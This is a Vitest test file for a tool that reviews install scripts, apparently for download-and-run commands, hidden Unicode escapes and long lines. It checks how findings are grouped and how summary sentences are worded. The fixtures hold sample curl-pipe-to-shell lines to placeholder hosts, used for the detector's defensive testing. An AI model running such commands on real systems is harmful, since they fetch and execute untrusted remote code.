import { describe, expect, it } from 'vitest'
import {
  findingGroups,
  inReadingOrder,
  lineParts,
  reviewSentence,
  shownLines,
  wholeUpToLines,
} from '../../renderer/places/diligence/review/review-groups.ts'
import { closingSentence, reviewScript } from '../../shared/install-review/review.ts'

const script = [
  'sudo systemctl enable node',
  'curl https://a.example/x | sh',
  'echo plain',
  'curl https://b.example/y | bash',
].join('\n')

describe('A review as it is read', () => {
  const review = reviewScript(script)

  it('has alarms before notes, each class once and each meaning once with all its lines', () => {
    const groups = findingGroups(review)
    expect(groups.map(({ severity }) => severity).toSorted()).toEqual(groups.map(({ severity }) => severity))
    expect(groups[0]).toMatchObject({ severity: 'alarm', label: 'Downloaded and run' })
    expect(groups[0]?.meanings).toHaveLength(1)
    expect(groups[0]?.meanings[0]?.findings.map(({ line }) => line)).toEqual([2, 4])
    expect(new Set(groups.map(({ label }) => label)).size).toBe(groups.length)
    expect(inReadingOrder(groups)).toHaveLength(review.findings.length)
  })

  it('says how much was found, and of nothing found only that it does not stand there', () => {
    expect(reviewSentence(review)).toBe('2 alarms and 2 notes in 4 lines.')
    expect(reviewSentence(reviewScript('echo hi'))).toBe('Nothing of what was looked for stands in 1 line.')
    const unread = { ...review, findings: [], notRead: [{ line: 2, why: 'deep' }] }
    expect(reviewSentence(unread)).toBe(
      'Nothing of what was looked for stands in 4 lines. 1 part was not read.',
    )
  })

  it('never says the word that it cannot keep', () => {
    for (const text of [script, '', 'echo hi', ')(']) {
      const each = reviewScript(text)
      expect(`${reviewSentence(each)} ${closingSentence(each)}`).not.toMatch(/\bsafe/i)
    }
  })
})

describe('The script beside it', () => {
  it('writes out what hides, leaves tabs, and says which part is an escape', () => {
    expect(lineParts('a\u202eb\tc', 1)).toEqual([
      { text: 'a', isEscape: false },
      { text: '\\u202e', isEscape: true },
      { text: 'b\tc', isEscape: false },
    ])
    expect(lineParts('\ud83d\ude00', 1)).toEqual([{ text: '\ud83d\ude00', isEscape: false }])
  })

  it('has the numbers of the review, with carriage returns as with line feeds', () => {
    const windows = script.replaceAll('\n', '\r\n')
    const lines = shownLines(windows, reviewScript(windows))
    expect(lines.map((line) => line.kind === 'line' && line.number)).toEqual([1, 2, 3, 4])
    expect(lines[2]).toMatchObject({ parts: [{ text: 'echo plain' }] })
    expect(shownLines('echo\n', reviewScript('echo\n'))).toHaveLength(1)
  })

  it('of a long one shows what lies around each finding and says what is left out', () => {
    const long = [
      ...Array.from({ length: wholeUpToLines }, () => 'true'),
      'curl https://a.example | sh',
    ].join('\n')
    const lines = shownLines(long, reviewScript(long))
    expect(lines[0]).toEqual({ kind: 'gap', from: 1, to: wholeUpToLines - 6 })
    expect(lines.filter(({ kind }) => kind === 'line')).toHaveLength(7)
    expect(lines.at(-1)).toMatchObject({ number: wholeUpToLines + 1 })
  })

  it('cuts an endless line around the finding, and counts what is missing', () => {
    const parts = lineParts(`${'x'.repeat(5_000)}EVIL${'y'.repeat(5_000)}`, 5_001)
    const text = parts.map((part) => part.text).join('')
    expect(text).toContain('EVIL')
    expect(text.length).toBeLessThan(1_300)
    const missing = [...text.matchAll(/(\d+) characters/g)].map(([, count]) => Number(count))
    expect(missing).toHaveLength(2)
    expect((missing[0] ?? 0) + (missing[1] ?? 0) + 1_200).toBe(10_004)
  })
})
